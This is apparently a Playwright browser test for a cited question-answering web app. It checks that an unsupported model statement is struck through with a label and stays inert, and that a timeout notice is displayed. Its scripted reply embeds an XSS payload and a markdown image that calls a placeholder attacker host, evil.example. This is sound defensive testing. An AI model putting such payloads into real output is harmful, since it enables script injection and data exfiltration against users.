"""What a language model said without support is struck on the page, with a label."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from index.document import Document
from index.encoding import load_encoder
from index.library import Library
from index.retrieval import EvidenceRetriever
from qa.chain import CitedAnswers, build_chain
from qa.service import DataFolder, Footnote
from qa.settings import Settings
from qa.web.app import create_app
from qa.work import WorkQueue
from tests.browser.conftest import OpenChat
from tests.qa.generative.scripted import Scripted
from tests.qa.web.serving import serving

LIVE = "<img src=x onerror=alert(1)> ![](http://evil.example/?q=bridge) sank."
SAID = f"It {LIVE} [1]\nThe Amber Bridge opened in 1934. [1]"


def test_a_statement_without_support_is_struck_and_inert_and_notices_are_seen(
    tmp_path: Path, open_chat: OpenChat
) -> None:
    encoder = load_encoder()
    replies: list[Any] = [SAID, [TimeoutError()]]
    model = Scripted(reply=lambda prompt: replies.pop(0))
    folder = DataFolder.open(Settings(data=tmp_path / "data"), encoder)
    folder.library.add(Document.from_text("The Amber Bridge opened in 1934.", source="bridge"))

    def chain_over(library: Library) -> CitedAnswers:
        retriever = EvidenceRetriever(library=library, encoder=encoder)
        return build_chain(retriever, model, show_unsupported=True)

    with Footnote(folder, encoder, chain_over, WorkQueue()) as service, serving(create_app(service)) as address:
        chat = open_chat(address)
        turn = chat.ask("When did the Amber Bridge open?")
        expect(turn.locator("del")).to_have_text(f"It {LIVE}")
        assert (turn.locator(".struck").text_content() or "").strip() == f"It {LIVE} ✗ not supported"
        expect(turn.locator(".statement:not(.struck)")).to_contain_text("The Amber Bridge opened in 1934.")
        assert turn.locator("del").evaluate("node => getComputedStyle(node).textDecorationLine") == "line-through"

        chat.ask("When did the Amber Bridge open?")
        expect(chat.turn.locator(".notices")).to_contain_text("did not answer within")
